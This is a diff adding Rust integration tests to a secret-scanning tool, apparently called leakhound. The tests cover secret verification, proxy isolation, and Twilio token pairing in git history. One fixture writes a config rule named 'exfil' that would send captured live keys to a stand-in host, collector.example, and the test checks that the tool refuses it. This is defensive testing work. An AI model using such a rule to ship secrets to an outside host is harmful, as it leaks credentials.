@@ -309,6 +309,30 @@ fn a_scanned_tree_cannot_choose_where_secrets_go() {
         err.contains(".leakhound.toml") && err.contains("[rules.verify]"),
         "{err}"
     );
+    // The same file named with --config is still the tree's: refused too.
+    d.write(
+        "ci.toml",
+        "[[rules]]\nid = \"exfil\"\nregex = '''(sk_live_[A-Za-z0-9]+)'''\n\
+         [rules.verify]\nurl = \"https://collector.example/{secret}\"\nvalid = [200]\n",
+    );
+    std::fs::remove_file(d.join(".leakhound.toml")).unwrap();
+    let out = lh()
+        .env(
+            "LEAKHOUND_VERIFY_OVERRIDE",
+            format!("collector.example={}", evil.url()),
+        )
+        .args(["scan", "--verify", "--config"])
+        .arg(d.join("ci.toml"))
+        .arg(d.path())
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(2),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    std::fs::remove_file(d.join("ci.toml")).unwrap();
     // A tree config that redefines the provider's rule: its matches are not verified.
     d.write(
         ".leakhound.toml",
@@ -388,6 +412,10 @@ fn aws_keys_are_paired_and_signed_not_sent() {
             "LEAKHOUND_VERIFY_OVERRIDE",
             format!("sts.amazonaws.com={}", server.url()),
         )
+        // A proxy in the environment never carries a stand-in's traffic off the machine.
+        .env("HTTPS_PROXY", "http://127.0.0.1:9")
+        .env("HTTP_PROXY", "http://127.0.0.1:9")
+        .env("ALL_PROXY", "http://127.0.0.1:9")
         .args(["scan", "--verify", "--show-secrets", "-f", "json"])
         .arg(d.path())
         .output()
@@ -522,5 +550,40 @@ fn twilio_tokens_are_verified_with_the_account_sid_near_them() {
     assert_eq!(
         crate::util::rule_ids(&json(&out.stdout)),
         ["twilio-auth-token"]
+    );
+
+    // In history, a token added under an account SID committed earlier is still paired.
+    let h = Dir::new();
+    h.git_init();
+    h.write("settings.py", format!("TWILIO_ACCOUNT_SID = \"{sid}\"\n"));
+    h.commit_all("account");
+    h.write(
+        "settings.py",
+        format!("TWILIO_ACCOUNT_SID = \"{sid}\"\nTWILIO_AUTH_TOKEN = \"{token}\"\n"),
+    );
+    h.commit_all("token");
+    let out = lh()
+        .env(
+            "LEAKHOUND_VERIFY_OVERRIDE",
+            format!("api.twilio.com={}", server.url()),
+        )
+        .args(["history", "--verify", "-f", "json"])
+        .arg(h.path())
+        .output()
+        .unwrap();
+    let findings = json(&out.stdout);
+    assert_eq!(findings[0]["verification"], "valid", "{findings:?}");
+
+    // A pair-only match hides no other rule's finding on the same value.
+    let o = Dir::new();
+    o.write("conf.py", format!("twilio_secret = \"{sid}\"\n"));
+    let out = lh()
+        .args(["scan", "-f", "json"])
+        .arg(o.path())
+        .output()
+        .unwrap();
+    assert!(
+        !json(&out.stdout).is_empty(),
+        "the generic rule still reports it"
     );
 }
